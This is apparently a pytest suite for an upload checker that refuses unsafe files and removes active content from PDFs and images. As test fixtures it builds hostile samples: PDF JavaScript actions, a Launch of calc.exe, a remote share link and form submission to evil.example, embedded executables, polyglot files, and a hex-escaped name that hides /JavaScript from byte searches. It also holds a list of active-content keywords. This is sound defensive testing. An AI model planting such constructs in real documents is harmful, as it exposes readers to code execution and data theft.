"""What is refused, and what a cleaned copy no longer has. Each file is checked as it would be uploaded."""

import io

import pikepdf
import pypdf
import pytest
from PIL import Image
from pypdf.generic import StreamObject

from chalicelib.domain.documents.file_types import FileType
from chalicelib.domain.documents.limits import MAX_FILE_BYTES
from chalicelib.domain.documents.reasons import RejectionReason
from document_check.checks import check_file
from document_check.outcomes import RefusedFileError
from tests.support.uploaded_files import EICAR, build_fax, build_huge_png, build_image, build_pdf, build_zip

PDF, JPEG, PNG, TIFF = FileType
PROGRAM = b"MZ"
"""The first bytes of a Windows program."""


@pytest.fixture
def check(tmp_path):
    """Check bytes, and return the outcome and the bytes of the copy."""

    def run(content, file_type=PDF):
        source, cleaned = tmp_path / "source", tmp_path / "cleaned"
        source.write_bytes(content)
        return check_file(source, file_type, cleaned), cleaned.read_bytes()

    return run


def refuse(check, content, file_type=PDF):
    with pytest.raises(RefusedFileError) as refused:
        check(content, file_type)
    return refused.value.reason


@pytest.mark.parametrize(
    ("content", "file_type", "pages"),
    [
        (build_pdf(3), PDF, 3),
        (build_image("JPEG"), JPEG, 1),
        (build_image("PNG"), PNG, 1),
        (build_image("PNG", mode="P"), PNG, 1),
        (build_image("PNG", mode="RGBA"), PNG, 1),
        (build_image("JPEG", mode="CMYK"), JPEG, 1),
        (build_image("TIFF", compression="jpeg"), TIFF, 1),
        (build_fax(4), TIFF, 4),
    ],
)
def test_an_ordinary_file_passes_with_all_its_pages(check, content, file_type, pages):
    """The copy has the same type."""
    outcome, copy = check(content, file_type)

    assert (outcome.pages, outcome.removed) == (pages, ())
    assert check(copy, file_type)[0].pages == pages


@pytest.mark.parametrize(
    ("content", "file_type", "reason"),
    [
        (b"", PDF, RejectionReason.EMPTY),
        (b"%PDF-1.7\n" + bytes(MAX_FILE_BYTES), PDF, RejectionReason.TOO_LARGE),
        (EICAR, PDF, RejectionReason.WRONG_TYPE),
        (build_zip(), PDF, RejectionReason.WRONG_TYPE),
        (build_zip(content=bytes(30_000_000)), PDF, RejectionReason.WRONG_TYPE),
        (b"<html><script>alert(1)</script>", PDF, RejectionReason.WRONG_TYPE),
        (PROGRAM + bytes(200), PDF, RejectionReason.WRONG_TYPE),
        (b"\x00\x00\x00\x18ftypheic" + bytes(50), JPEG, RejectionReason.WRONG_TYPE),
        (b"\n" + build_pdf(), PDF, RejectionReason.WRONG_TYPE),
        (build_image("PNG"), PDF, RejectionReason.OTHER_TYPE),
        (build_pdf(), JPEG, RejectionReason.OTHER_TYPE),
        (build_pdf() + build_zip(), PDF, RejectionReason.OTHER_TYPE),
        (build_image("JPEG") + b"<html><script>alert(1)</script></html>", JPEG, RejectionReason.OTHER_TYPE),
        (build_image("PNG") + build_zip(), PNG, RejectionReason.OTHER_TYPE),
        (build_image("PNG") + build_pdf(), PNG, RejectionReason.OTHER_TYPE),
        (build_pdf()[:-40], PDF, RejectionReason.DAMAGED),
        (build_pdf(20)[:600], PDF, RejectionReason.DAMAGED),
        (build_pdf(0), PDF, RejectionReason.DAMAGED),
        (b"%PDF-1.7\n%%EOF", PDF, RejectionReason.DAMAGED),
        (build_image("PNG", (400, 300))[:-60], PNG, RejectionReason.DAMAGED),
        (build_image("JPEG", (400, 300))[:-300], JPEG, RejectionReason.DAMAGED),
        (b"\x89PNG\r\n\x1a\n" + b"<script>", PNG, RejectionReason.DAMAGED),
        (b"II*\x00" + bytes(40), TIFF, RejectionReason.DAMAGED),
        (build_pdf(501), PDF, RejectionReason.TOO_MANY_PAGES),
        (build_fax(501), TIFF, RejectionReason.TOO_MANY_PAGES),
        (build_huge_png(), PNG, RejectionReason.IMAGE_TOO_LARGE),
        (build_huge_png(8_000, 8_000), PNG, RejectionReason.IMAGE_TOO_LARGE),
    ],
)
def test_a_file_is_refused_with_its_reason(check, content, file_type, reason):
    """Whatever its name says: a name is never looked at."""
    assert refuse(check, content, file_type) is reason


@pytest.mark.parametrize(("user", "owner"), [("secret", "secret"), ("", "owner")])
def test_a_pdf_with_a_password_is_refused(check, user, owner):
    """Also if it opens without one: the malware scan cannot look inside."""
    content = build_pdf(encryption=pikepdf.Encryption(user=user, owner=owner))

    assert refuse(check, content) is RejectionReason.PASSWORD


def add_hidden_script(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)"))


def add_named_script(pdf):
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["run", action]))


def add_page_action(pdf):
    pdf.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def add_launch_link(pdf):
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch)
    pdf.pages[0].Annots = [link]


def add_link_to_a_share(pdf):
    remote = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="\\\\evil.example\\share\\a.pdf", D=[0, pikepdf.Name.Fit])
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=remote)
    pdf.pages[0].Annots = [link]


def add_chained_submit(pdf):
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example")
    first = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org", Next=[submit])
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=first)
    pdf.pages[0].Annots = pdf.make_indirect([link])


def add_attachment(pdf):
    pdf.attachments["tool.exe"] = PROGRAM + bytes(50)


def add_attachment_note(pdf):
    file = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F="a.exe", EF=pikepdf.Dictionary(F=pdf.make_stream(PROGRAM + bytes(50)))
    )
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=file)
    pdf.pages[0].Annots = [note]


def add_xfa(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp/>"))


def add_rich_media(pdf):
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.RichMedia,
        Rect=[0, 0, 9, 9],
        RichMediaContent=pikepdf.Dictionary(),
    )
    pdf.pages[0].Annots = [note]


ACTIVE = (
    "JavaScript",
    "/JS",
    "Launch",
    "GoToR",
    "SubmitForm",
    "EmbeddedFile",
    "/EF",
    "/AA",
    "XFA",
    "RichMediaContent",
)


@pytest.mark.parametrize(
    ("change", "removed"),
    [
        (add_hidden_script, "script"),
        (add_named_script, "script"),
        (add_page_action, "action"),
        (add_launch_link, "action"),
        (add_link_to_a_share, "action"),
        (add_chained_submit, "action"),
        (add_attachment, "attachment"),
        (add_attachment_note, "attachment"),
        (add_xfa, "form"),
        (add_rich_media, "media"),
    ],
)
def test_what_runs_in_a_pdf_is_not_in_the_copy(check, change, removed):
    """The pages stay. A second library reads the copy, and finds nothing of it."""
    outcome, copy = check(build_pdf(2, change))
    reader = pypdf.PdfReader(io.BytesIO(copy), strict=True)
    found = list_objects(reader)

    assert removed in outcome.removed
    assert len(reader.pages) == 2
    assert [name for name in ACTIVE if name in str(found)] == []
    assert [part for part in found if isinstance(part, StreamObject) and part.get_data().startswith(PROGRAM)] == []


def list_objects(reader):
    """List the objects of a file, without its identifier: those random bytes may spell anything."""
    objects = [reader.get_object(number) for number in range(1, int(str(reader.trailer["/Size"])))]
    for part in objects:
        if isinstance(part, dict):
            part.pop("/ID", None)
    return objects


def test_a_name_that_hides_from_a_search_of_the_bytes_is_found(check):
    """`/J#61vaScript` is `/JavaScript`."""
    content = build_pdf(1, add_hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    hidden = content.replace(b"/JavaScript", b"/J#61vaScript")
    hidden = _with_new_start(hidden)
    outcome, copy = check(hidden)

    assert b"/JavaScript" not in hidden
    assert "script" in outcome.removed or "action" in outcome.removed
    assert b"app.alert" not in copy


def _with_new_start(content):
    """Write the cross-reference table again after a change of length."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    offset = out.getvalue()
    return _hide_name(offset)


def _hide_name(content):
    """Hide the name with the same length: the spaces after it give the room."""
    position = content.index(b"/JavaScript")
    longer = content[:position] + b"/J#61vaScript" + content[position + len(b"/JavaScript") :]
    xref = longer.index(b"xref\n")
    lines = longer[xref:].split(b"\n")
    moved = [
        b"%010d%b" % (int(line[:10]) + 2, line[10:]) if line.endswith(b" n ") and int(line[:10]) > position else line
        for line in lines
    ]
    start = moved.index(b"startxref") + 1
    moved[start] = b"%d" % xref
    return longer[:xref] + b"\n".join(moved)


def test_a_link_to_a_web_page_stays(check):
    """Reports name their sources."""
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org"),
    )

    def add_link(pdf):
        pdf.pages[0].Annots = [link]

    outcome, copy = check(build_pdf(1, add_link, object_stream_mode=pikepdf.ObjectStreamMode.disable))

    assert outcome.removed == ()
    with pikepdf.open(io.BytesIO(copy)) as pdf:
        assert str(pdf.pages[0].Annots[0].A.URI) == "https://example.org"


def test_bytes_after_the_end_are_dropped(check):
    """Some phones add their own data after the image."""
    outcome, copy = check(build_image("JPEG") + b"phone data", JPEG)

    assert outcome.removed == ("trailing_data",)
    assert b"phone data" not in copy


def test_the_place_of_a_photo_is_dropped(check):
    """A phone writes its position into the metadata."""
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (29.0, 45.0, 0.0)}
    outcome, copy = check(build_image("JPEG", exif=exif.tobytes()), JPEG)

    assert outcome.removed == ("metadata",)
    assert not Image.open(io.BytesIO(copy)).getexif()


def test_a_photo_that_was_taken_upright_stays_upright(check):
    """Its direction was in the metadata, which is dropped."""
    exif = Image.Exif()
    exif[0x0112] = 6
    _, copy = check(build_image("JPEG", (40, 30), exif=exif.tobytes()), JPEG)

    assert Image.open(io.BytesIO(copy)).size == (30, 40)


def test_a_fax_keeps_its_resolution_and_compression(check):
    """A fax is stretched without its two different resolutions."""
    _, copy = check(build_fax(2), TIFF)
    fax = Image.open(io.BytesIO(copy))

    assert fax.info["compression"] == "group4"
    assert [round(float(value)) for value in fax.info["dpi"]] == [204, 196]


def test_the_same_pdf_gives_the_same_copy(check):
    """A check that runs twice stores the same bytes."""
    content = build_pdf(2)

    assert check(content)[1] == check(content)[1]


def test_a_pdf_with_too_many_objects_is_refused(check, monkeypatch):
    """Without this limit, the walk through them could take minutes."""
    monkeypatch.setattr("document_check.pdf.MAX_PDF_OBJECTS", 5)

    assert refuse(check, build_pdf(9)) is RejectionReason.TOO_COMPLEX


def test_a_deeply_nested_pdf_is_refused(check):
    """Recursion has a limit."""

    def nest(pdf):
        inner = pikepdf.Array([])
        for _ in range(200):
            inner = pikepdf.Array([inner])
        pdf.Root.Nested = inner

    assert refuse(check, build_pdf(1, nest)) in {RejectionReason.TOO_COMPLEX, RejectionReason.DAMAGED}
